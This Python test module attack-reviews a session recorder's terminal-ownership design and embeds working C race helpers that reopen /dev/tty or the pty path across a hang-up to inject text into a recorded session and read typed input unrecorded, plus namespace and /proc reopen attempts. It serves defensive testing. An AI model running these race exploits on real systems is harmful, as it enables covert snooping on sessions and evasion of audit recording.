"""Attack review of issue 23's ownership design (branch attack23c): the
recorder (set-id awsmfa-rec, file capabilities cap_chown and
cap_sys_tty_config, permitted only) makes the client's terminal's node its
own (fchown, mode 0600), clears TIOCEXCL for its own open, hangs the
terminal up (vhangup), drops its capabilities and opens the node again as
its owner (gateway/recording/tty_revoke.c).  Set up as the package does
(test_gateway_recording's setUpModule).  As in test_gateway_attack_caps,
the user runs the set-group-ID gateway by hand from a recorded shell, as
the leader of a new session with a terminal of their own (openpty) as its
controlling terminal: the gateway execs the recorder, which takes that
terminal as it takes sshd's.

What held (test_no_way_back_to_the_taken_node, passes):
- once the recorder has taken the node (awsmfa-rec, 0600), a process of
  the user's that held it from before (a descriptor and an O_PATH one)
  gets no live descriptor back: open by path, reopen of the O_PATH
  descriptor through /proc/self/fd and openat2(2) fail EACCES; chmod and
  chown through /proc/self/fd fail EPERM (ownership is checked on the
  inode, whatever the path); the old descriptor writes EIO;
- inside a user and mount namespace of the user's (unshare -Urm) the node,
  and a bind mount of it, are still refused (EACCES): awsmfa-rec is not
  mapped there, so the namespace's root has no DAC override on it; a
  devpts mounted there is another instance, without the node; set-id
  programs gain nothing in such a namespace;
- a crafted descriptor 0 reaches the chown only by hand (the gateway run
  by the user, as here), and must then be the controlling terminal of the
  session the recorder leads and the node at /dev/pts/N (ttyname_r checks
  st_dev and st_ino, so no other devpts instance): only a pty the user
  can open and make a controlling terminal, i.e. one of their own (a
  node of another user's is 0620 or 0600, and TIOCSCTTY cannot take the
  controlling terminal of another session without CAP_SYS_ADMIN);
- after the session the node stays the recorder's (0600) until the pty
  is freed, then devpts removes it (checked here with the master closed).
  Note: sshd does not "give it back to root" on Linux (pty_release() is
  empty where openpty(3) exists); the node simply goes when sshd closes
  the master, which is as good.

What broke (test_session_member_reopens_dev_tty_across_the_hangup; fixed:
the recorder now refuses a session holding any process but the gateway's
audit side, named by its pid -- a first fix let every child of the
recorder's through, and the spinner, forked before the gateway's exec, is
one: it won once in CI): /dev/tty.  Opening /dev/tty checks
no permission on the terminal's node (only on /dev/tty, 0666); TIOCEXCL
is the only gate.  Any process of the recorder's session (whose
controlling terminal it is) may open it, and the recorder clears
TIOCEXCL just before its vhangup (for its own open after).  A thread of
such a process that is between get_current_tty() and tty_lock() when the
hang-up takes the terminal's lock waits for it, then completes its open
after the hang-up, not exclusive: a live descriptor the hang-up never
saw (vhangup clears the session's controlling terminal, so later opens
fail ENXIO; the straddling one does not).  The recorded shell then runs
while that process writes to the client and reads what it types, none
of it recorded.  Measured here (2 CPUs, a full test run alongside): won
2 of 11 runs with 3 to 8 spinning threads; the winner's text reached the
"client" and it read the line typed after.  Reach: by hand (below) the
user always has such a process, but then the "client" is a pty of their
own.  Through sshd only with code of the user's in sshd's session before
the gateway, i.e. the start-up files of awsmfa-gateway(8) CAVEATS, which
already let the user skip the gateway: low severity today, but the
design's claim "no process of the user's opens it again, by any path" is
false, and it would matter at once if anything of the user's ever ran in
that session.

Tried, not won (test_outsider_open_by_path_straddles_the_chown_and_hangup,
skipped unless AMFA_RACE=1): the same straddle by path from outside the
session -- an open that passed the permission check before the chown and
reaches tty_reopen() after the hang-up, the recorder stopped meanwhile
(SIGSTOP: its real uid is still the user's) so that TIOCEXCL is still
clear.  Lost 3 of 3: the thread must be preempted between may_open() and
tty_lock() across the few microseconds from fchown to vhangup.  Possible
in principle (the window is not closed by design), not shown.

Suggested fix (product code, not made here): before clearing TIOCEXCL,
refuse unless the recorder and the gateway's audit side are the only
processes of its session (the session field of /proc/PID/stat; a session
gains members only by fork(2) from one, and neither forks then; fail
closed if /proc hides processes, hidepid) -- that closes the /dev/tty
path for good.  The path straddle cannot be closed the same way (any
open needs the flag clear, and an open past its permission check cannot
be seen); narrow it: make the recorder unsignalable by the user for the
window (its real uid is the user's until the shell's fork), and do the
hang-up twice (reopen, TIOCSCTTY, vhangup, reopen), so that an open in
flight across the first must also straddle the second.
"""

import os
import re
import subprocess
import sys
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import test_gateway_recording as base                     # noqa: E402
from gwlib import TAG, read                               # noqa: E402

base.ROLES = base.ROLES + ("chownhold", "devttyrace", "pathrace",
                           "ahead")
setUpModule = base.setUpModule
tearDownModule = base.tearDownModule


# Run by the user from their recorded shell; argv = the gateway, log,
# helper (the /dev/tty spinner, or "-" for none).  A terminal of the
# user's own stands for the client's; the user holds it from before (a
# descriptor and an O_PATH one); the set-group-ID gateway runs by hand as
# the leader of a new session with it as controlling terminal.  With a
# helper, a process of that session (forked before the gateway's exec)
# spins on open("/dev/tty").  Once the recorded shell runs, every other
# way back in is tried and logged.
HAND = r"""
import ctypes, errno, os, select, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
GW, LOG, HELPER, MODE = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
log = open(LOG, "a", buffering=1)
libc.prctl(4, 0, 0, 0, 0)  # not dumpable: out of the audit side's sight
env = dict(os.environ)
env.pop("SSH_ORIGINAL_COMMAND", None)
env["PS1"] = "$ "

def drain(m, want, secs):
    wants = want if isinstance(want, tuple) else (want,)
    got, end = b"", time.time() + secs
    while time.time() < end and not any(w in got for w in wants):
        if select.select([m], [], [], 0.1)[0]:
            try:
                d = os.read(m, 4096)
            except OSError as e:
                log.write("READ %r\n" % e)
                break
            if not d:
                break
            got += d
    return got

def err(f):
    try:
        r = f()
        return "OK %r" % (r,)
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))

m, s = os.openpty()
path = os.ttyname(s)
old = os.open(path, os.O_RDWR | os.O_NOCTTY)
opath = os.open(path, os.O_PATH)
r, w = os.pipe()
if MODE == "ahead":
    # Typed before the gateway runs: queued on the terminal, read by the
    # recorder before its hang-up (which discards the queue).
    os.write(m, b"echo AHEAD-$((6*7))\r")
gw = os.fork()
if gw == 0:
    os.close(r)
    os.setsid()
    fd = os.open(path, os.O_RDWR)
    for i in range(3):
        os.dup2(fd, i)
    if MODE == "session":
        if os.fork() == 0:
            null = os.open("/dev/null", os.O_RDWR)
            for i in range(3):
                os.dup2(null, i)
            os.dup2(w, 3)
            os.closerange(4, 1024)
            os.execv(HELPER, [HELPER, "3"])
        time.sleep(0.5)  # it spins (and is not dumpable) first
    os.closerange(3, 1024)
    if MODE == "outside":
        time.sleep(0.5)  # the helper spins first
    try:
        os.execve(GW, ["awsmfa-gateway"], env)
    finally:
        os._exit(127)
if MODE == "outside":
    if os.fork() == 0:
        os.setsid()
        null = os.open("/dev/null", os.O_RDWR)
        for i in range(3):
            os.dup2(null, i)
        os.dup2(w, 3)
        os.closerange(4, 1024)
        os.execv(HELPER, [HELPER, "3", path, str(gw)])
os.close(s)
os.close(w)
os.write(m, b"echo IN-$((6*7))\r")
out = drain(m, (b"IN-42", b"cannot be"), 20)
shell = b"IN-42" in out
log.write("SHELL %s\n" % shell)
if MODE == "ahead":
    out += drain(m, b"AHEAD-42\r", 10)
    log.write("AHEAD %s\n" % (b"AHEAD-42\r" in out))
if not shell:
    # All of it: the sanitizer build's runtime may print after the
    # refusal (gcc 12's LeakSanitizer crashing at the gateway's exit), and
    # a tail would cut the refusal's first words off.
    log.write("OUT %r\n" % out[:4000])
st = os.stat(path)
log.write("NODE uid=%d mode=%o\n" % (st.st_uid, st.st_mode & 0o7777))
if shell:
    log.write("OPEN %s\n"
              % err(lambda: os.open(path, os.O_RDWR | os.O_NOCTTY)))
    p = "/proc/self/fd/%d" % opath
    log.write("REOPEN %s\n" % err(lambda: os.open(p, os.O_RDWR | os.O_NOCTTY)))
    log.write("CHMOD %s\n" % err(lambda: os.chmod(p, 0o666)))
    log.write("CHOWN %s\n" % err(lambda: os.chown(p, os.getuid(), -1)))
    log.write("OLD %s\n" % err(lambda: os.write(old, b"OLD-LEAK\r\n")))
    # openat2(AT_FDCWD, path, {O_RDWR|O_NOCTTY, 0, 0}, 24)
    how = (ctypes.c_uint64 * 3)(os.O_RDWR | os.O_NOCTTY, 0, 0)
    fd = libc.syscall(437, -100, path.encode(), ctypes.byref(how), 24)
    log.write("OPENAT2 %s\n" % ("OK" if fd >= 0 else
              errno.errorcode.get(ctypes.get_errno())))
    ns = subprocess.run(
        ["unshare", "-Urm", "sh", "-c",
         "python3 -c 'import os,sys; os.open(sys.argv[1], os.O_RDWR)' %s "
         "&& echo OPENED; d=$(mktemp -d) && touch $d/n && "
         "mount --bind %s $d/n && python3 -c 'import os,sys; "
         "os.open(sys.argv[1], os.O_RDWR)' $d/n && echo BOUND" % (path, path)],
        capture_output=True, text=True)
    log.write("USERNS rc=%d out=%r err=%r\n"
              % (ns.returncode, ns.stdout, ns.stderr[-300:]))
    out += drain(m, b"LEAK-42", 5)
    if b"OLD-LEAK" in out:
        log.write("OLDLEAK\n")
    if b"LEAK-42" in out:
        log.write("LEAK\n")
    try:
        os.write(m, b"typed-secret\r")
    except OSError:
        pass
    time.sleep(1)
rep = b""
while select.select([r], [], [], 0.5)[0]:
    d = os.read(r, 4096)
    if not d:
        break
    rep += d
log.write("HELPER %r\n" % rep)
try:
    os.write(m, b"exit 0\r")
except OSError:
    pass
drain(m, b"\0", 3)
st = os.waitpid(gw, 0)[1]
log.write("GATEWAY status %d\n" % st)
st = os.stat(path)
log.write("AFTER uid=%d mode=%o\n" % (st.st_uid, st.st_mode & 0o7777))
os.close(m)
log.write("CLOSED exists=%s\n" % os.path.exists(path))
log.write("DONE\n")
""".strip()


# A process of the recorder's session (the terminal is its controlling
# terminal), not dumpable; argv = a descriptor to report on.  Threads open
# /dev/tty over and over (EBUSY while the recorder's TIOCEXCL holds; then
# descriptors the hang-up will kill), each keeping its latest; when an
# open fails ENXIO (the hang-up took the controlling terminal away), the
# thread checks whether the descriptor it kept still works.  A live one was
# opened after the hang-up: WON, then it writes to the client and reads.
DEVTTY_C = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>
static int rep;
static volatile int won = -1;
static void *spin(void *arg)
{
	int keep = -1;
	time_t end = time(NULL) + 30;

	(void)arg;
	while (won < 0 && time(NULL) < end) {
		int fd = open("/dev/tty", O_RDWR | O_NOCTTY);

		if (fd >= 0) {
			if (keep >= 0)
				close(keep);
			keep = fd;
			continue;
		}
		if (errno == ENXIO) {
			struct termios t;

			if (keep >= 0 && tcgetattr(keep, &t) == 0)
				won = keep;
			break;
		}
	}
	return NULL;
}
int main(int argc, char **argv)
{
	pthread_t t[8];
	const char *msg = "\r\nLEAK-42 unrecorded\r\n";

	(void)argc;
	rep = atoi(argv[1]);
	(void)prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
	for (int i = 0; i < 8; i++)
		pthread_create(&t[i], NULL, spin, NULL);
	for (int i = 0; i < 8; i++)
		pthread_join(t[i], NULL);
	if (won < 0) {
		dprintf(rep, "LOST\n");
		return 0;
	}
	dprintf(rep, "WON\n");
	sleep(2);
	if (write(won, msg, strlen(msg)) < 0)
		dprintf(rep, "WRITE %d\n", errno);
	for (int i = 0; i < 40; i++) {
		struct pollfd pf = { won, POLLIN, 0 };
		char in[256];
		ssize_t n;

		if (poll(&pf, 1, 100) != 1)
			continue;
		if ((n = read(won, in, sizeof(in))) <= 0)
			break;
		dprintf(rep, "READ %.*s\n", (int)n, in);
	}
	return 0;
}
"""


# A process of the user's outside the session (as one left over from an
# earlier session, that opened the client's terminal before TIOCEXCL, see
# test_gateway_pty_race); argv = a descriptor to report on, the
# terminal's path, the recorder's pid.  Threads open the path over and
# over (EBUSY while TIOCEXCL holds, EACCES once the node is the
# recorder's), each keeping its latest descriptor; an open that passed
# the permission check before the chown and reaches the terminal after
# the hang-up is a live one.  When the old descriptor is hung up, the
# recorder (its real uid is still the user's) is stopped for a moment, so
# that such an open lands before its TIOCEXCL.
PATHRACE_C = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>
#define T 6
static const char *path;
static int kept[T];
static volatile int done;
static void *spin(void *arg)
{
	int i = (int)(long)arg;

	kept[i] = -1;
	while (!done) {
		int fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);

		if (fd >= 0) {
			if (kept[i] >= 0)
				close(kept[i]);
			kept[i] = fd;
		} else if (errno == EACCES)
			break;
	}
	return NULL;
}
int main(int argc, char **argv)
{
	pthread_t t[T];
	const char *msg = "\r\nLEAK-42 unrecorded\r\n";
	int rep, old, x, won = -1;
	pid_t rec;
	time_t end;

	(void)argc;
	rep = atoi(argv[1]);
	path = argv[2];
	rec = (pid_t)atoi(argv[3]);
	(void)prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
	if ((old = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK)) < 0)
		return 1;
	for (long i = 0; i < T; i++)
		pthread_create(&t[i], NULL, spin, (void *)i);
	end = time(NULL) + 30;
	while (ioctl(old, TIOCGEXCL, &x) == 0 && time(NULL) < end)
		;
	kill(rec, SIGSTOP);
	usleep(300000);
	done = 1;
	for (int i = 0; i < T; i++)
		pthread_join(t[i], NULL);
	for (int i = 0; i < T; i++) {
		struct termios tm;

		if (kept[i] >= 0 && tcgetattr(kept[i], &tm) == 0)
			won = kept[i];
	}
	kill(rec, SIGCONT);
	if (won < 0) {
		dprintf(rep, "LOST\n");
		return 0;
	}
	dprintf(rep, "WON\n");
	sleep(2);
	if (write(won, msg, strlen(msg)) < 0)
		dprintf(rep, "WRITE %d\n", errno);
	for (int i = 0; i < 40; i++) {
		struct pollfd pf = { won, POLLIN, 0 };
		char in[256];
		ssize_t n;

		if (poll(&pf, 1, 100) != 1)
			continue;
		if ((n = read(won, in, sizeof(in))) <= 0)
			break;
		dprintf(rep, "READ %.*s\n", (int)n, in);
	}
	return 0;
}
"""


class AttackChown(unittest.TestCase):
    setUp = base.Recording.setUp
    logs_on_failure = base.Recording.logs_on_failure
    login = base.Recording.login
    shell = base.Recording.shell

    def script(self, name, text):
        path = "/tmp/amfa-%s-%s.py" % (name, TAG)
        with open(path, "w") as f:
            f.write(text)
        os.chmod(path, 0o644)
        self.addCleanup(os.unlink, path)
        return path

    def session(self, role):
        base.gateway_conf()
        p, child = self.login(role)
        out = self.shell(child, "echo SH=$$ PP=$PPID")
        m = re.search(r"SH=(\d+) PP=(\d+)", out)
        self.assertTrue(m, out)
        self.addCleanup(base.kill_session, int(m.group(1)))
        return p, child

    def by_hand(self, role, helper="-", mode="-", shell=True):
        p, child = self.session(role)
        self.user = p.name
        log = "/tmp/amfa-%s-%s.log" % (role, TAG)
        self.addCleanup(lambda: os.path.exists(log) and os.unlink(log))
        script = self.script(role, HAND)
        self.shell(child, "/usr/bin/python3 %s %s %s %s %s" % (
            script, base.GW, log, helper, mode), timeout=180)
        text = read(log)
        print("attacker's log:\n%s" % text, file=sys.stderr)
        child.sendline("exit 0")
        base.finish(child)
        self.assertIn("DONE", text)
        if shell:
            self.assertIn("SHELL True", text, "the recorded shell never "
                          "ran: the test shows nothing")
        return text

    def test_no_way_back_to_the_taken_node(self):
        """The node is the recorder's (0600) while the shell runs; the
        user's earlier descriptor is hung up, and neither the path, the
        O_PATH descriptor (through /proc/self/fd or openat2), chmod or
        chown through it, nor a user+mount namespace opens it again."""
        text = self.by_hand("chownhold")
        rec = base.REC_PW.pw_uid
        self.assertIn("NODE uid=%d mode=600" % rec, text)
        for what in ("OPEN", "REOPEN", "OPENAT2"):
            self.assertIn("%s EACCES" % what, text)
        self.assertIn("CHMOD EPERM", text)
        self.assertIn("CHOWN EPERM", text)
        self.assertIn("OLD EIO", text)
        self.assertNotIn("OLDLEAK", text)
        m = re.search(r"USERNS rc=(\d+) out='([^']*)'", text)
        self.assertTrue(m, text)
        self.assertNotEqual(m.group(1), "0")
        self.assertNotIn("OPENED", m.group(2))
        self.assertNotIn("BOUND", m.group(2))
        # The master closed, the node is gone (devpts), whoever owned it.
        self.assertIn("CLOSED exists=False", text)

    def test_session_member_reopens_dev_tty_across_the_hangup(self):
        """A process of the recorder's session spinning on /dev/tty keeps
        a descriptor opened after the hang-up and writes to the client of
        the recorded shell.  Must not happen: the recorder refuses a
        session with any member but the gateway's audit side before it
        clears the exclusive flag.  The spinner here is a child of the
        recorder's own process (forked before the gateway's exec), as the
        audit side is: it won in CI (a race) while children were all
        let through; now it is refused every time, by its pid."""
        helper = "/tmp/amfa-devtty-%s" % TAG
        subprocess.run(["cc", "-O2", "-pthread", "-o", helper, "-x", "c",
                        "-"], input=DEVTTY_C, text=True, check=True)
        self.addCleanup(os.unlink, helper)
        os.chmod(helper, 0o755)
        text = self.by_hand("devttyrace", helper, "session", shell=False)
        self.assertIn("SHELL False", text)
        self.assertIn("refused: this session must be recorded and cannot "
                      "be", text)
        self.assertIn("GATEWAY status 256", text)
        self.assertNotIn("WON", text, text)
        self.assertNotIn("LEAK\n", text, text)
        shells = base.audit_records(self.user, "shell")
        self.assertEqual([s["result"] for s in shells], ["ok", "error"],
                         shells)
        self.assertRegex(shells[1]["reason"], r"process \d+ is in the "
                         r"session of the client's terminal")

    def test_typed_ahead_reaches_the_shell(self):
        """What the client typed before the recorder took the terminal
        is not lost to the hang-up: the shell runs it."""
        text = self.by_hand("ahead", "-", "ahead")
        self.assertIn("AHEAD True", text)

    @unittest.skipUnless(os.environ.get("AMFA_RACE"),
                         "a race not won here (0 of 3; see the module's "
                         "docstring); AMFA_RACE=1 runs it")
    def test_outsider_open_by_path_straddles_the_chown_and_hangup(self):
        """A process outside the session that opens the path in a loop:
        an open that passed the permission check before the chown and
        reaches the terminal after the hang-up (the recorder stopped
        meanwhile) would be a live descriptor.  Must not happen."""
        helper = "/tmp/amfa-pathrace-%s" % TAG
        subprocess.run(["cc", "-O2", "-pthread", "-o", helper, "-x", "c",
                        "-"], input=PATHRACE_C, text=True, check=True)
        self.addCleanup(os.unlink, helper)
        os.chmod(helper, 0o755)
        text = self.by_hand("pathrace", helper, "outside")
        self.assertNotIn("WON", text, text)
        self.assertNotIn("LEAK\n", text, text)


if __name__ == "__main__":
    if os.geteuid() != 0:
        print("SKIP: needs root (sshd, accounts, set-id copies, a mount "
              "namespace)")
        sys.exit(77)
    for what, path in (("module", base.MODULE), ("gateway", base.GATEWAY),
                       ("recorder", base.RECORDER)):
        if not path or not os.path.exists(path):
            print("missing %s (%r): run through meson test" % (what, path))
            sys.exit(1)
    unittest.main(verbosity=2)
